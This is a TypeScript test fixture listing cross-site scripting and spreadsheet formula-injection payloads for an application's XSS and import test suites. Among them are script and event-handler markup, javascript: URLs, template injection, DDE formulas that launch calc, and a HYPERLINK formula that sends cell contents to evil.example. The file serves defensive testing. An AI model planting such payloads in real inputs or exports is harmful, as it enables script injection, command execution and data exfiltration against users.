/**
 * Markup and formula payloads for the XSS suite (e2e/xss.spec.ts) and the import tests. Each one,
 * if it ran, would set `window.__xss` (or open a dialog, which the e2e fixture also refuses); each
 * ends with a tag `[xssN]` so that a test can find it on a page and check that it is shown as text.
 * Short enough for every free-text field (names are limited to 160 characters).
 */
export type XssPayload = { kind: string; text: string };

const entries: [string, string][] = [
  ['script tag', '<script>window.__xss=1;alert(1)</script>'],
  ['event handler', '<img src=x onerror="window.__xss=1">'],
  ['svg payload', '<svg onload="window.__xss=1"><circle r="9"/></svg>'],
  ['svg script', '<svg><script>window.__xss=1</script></svg>'],
  ['javascript url', 'javascript:window.__xss=1'],
  ['link with javascript url', '<a href="javascript:window.__xss=1">clic</a>'],
  ['attribute breakout', '"><img src=x onerror=window.__xss=1>'],
  ['broken markup', '<div <p onmouseover="window.__xss=1">x</p'],
  ['textarea breakout', '</textarea><script>window.__xss=1</script>'],
  ['iframe srcdoc', '<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>'],
  ['mutation xss', '<math><mtext><table><mglyph><style><img src=x onerror=window.__xss=1>'],
  ['template injection', "{{constructor.constructor('window.__xss=1')()}} ${window.__xss=1} #{7*7}"],
  ['csv formula equals', '=HYPERLINK("http://evil.example/?x="&A1,"ok")'],
  ['csv formula plus', "+cmd|' /C calc'!A0"],
  ['csv formula minus', "-2+3+cmd|' /C calc'!A0"],
  ['csv formula at', "@SUM(1+1)*cmd|' /C calc'!A0"],
];

export const XSS_CORPUS: XssPayload[] = entries.map(([kind, text], i) => ({ kind, text: `${text} [xss${i + 1}]` }));

/** The payloads that start with a character a spreadsheet runs as a formula. */
export const FORMULA_PAYLOADS = XSS_CORPUS.filter((p) => /^[=+\-@]/.test(p.text));

/** The payload number `i`, cycling through the corpus. */
export const payload = (i: number) => XSS_CORPUS[i % XSS_CORPUS.length]!.text;
